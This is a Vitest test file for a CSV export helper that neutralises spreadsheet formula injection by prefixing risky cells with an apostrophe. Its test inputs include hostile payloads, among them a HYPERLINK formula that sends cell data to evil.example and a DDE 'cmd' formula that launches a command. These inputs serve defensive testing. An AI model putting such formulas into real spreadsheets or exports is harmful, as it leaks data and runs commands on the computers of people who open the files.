import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvCell, csvUnescape, toCsv } from './csv';

describe('CSV cells (OWASP formula injection)', () => {
  it('gives every formula-leading text cell a leading apostrophe', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"点我")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"`);
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('=cmd|\' /C calc\'!A0')).toBe("'=cmd|' /C calc'!A0");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('leaves other text alone, quoting only what CSV needs', () => {
    expect(csvCell('陈海生')).toBe('陈海生');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('1+1=2')).toBe('1+1=2'); // only the first character counts
    expect(csvCell(' =1')).toBe(' =1');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('writes numbers of numeric columns as numbers, and text that looks like a number as text', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(2.5)).toBe('2.5');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell('-3')).toBe("'-3");
    expect(csvCell('+86 138 0013 8000')).toBe("'+86 138 0013 8000");
  });
});

describe('CSV files', () => {
  const rows = [
    ['kind', 'name', 'capacity'],
    ['grid', '=HYPERLINK("http://x","网格")', 12],
    ['camera', '@SUM(1+1)*cmd|calc', -3],
    ['actor', '+陈海生', null],
  ];

  it('reads back in a CSV reader with every formula neutralised', () => {
    const text = toCsv(rows, { bom: true });
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const cells = (parse(text.slice(1)) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-\D/.test(cell))).toEqual([]);
    expect(parse(text.slice(1))).toEqual([
      ['kind', 'name', 'capacity'],
      ['grid', `'=HYPERLINK("http://x","网格")`, '12'],
      ['camera', "'@SUM(1+1)*cmd|calc", '-3'],
      ['actor', "'+陈海生", ''],
    ]);
  });

  it('our own export reads back as it was written', () => {
    const cells = (parse(toCsv(rows)) as string[][]).map((row) => row.map(csvUnescape));
    expect(cells[1]![1]).toBe('=HYPERLINK("http://x","网格")');
    expect(cells[3]![1]).toBe('+陈海生');
    expect(csvUnescape("'plain")).toBe("'plain"); // an apostrophe we did not add stays
  });
});
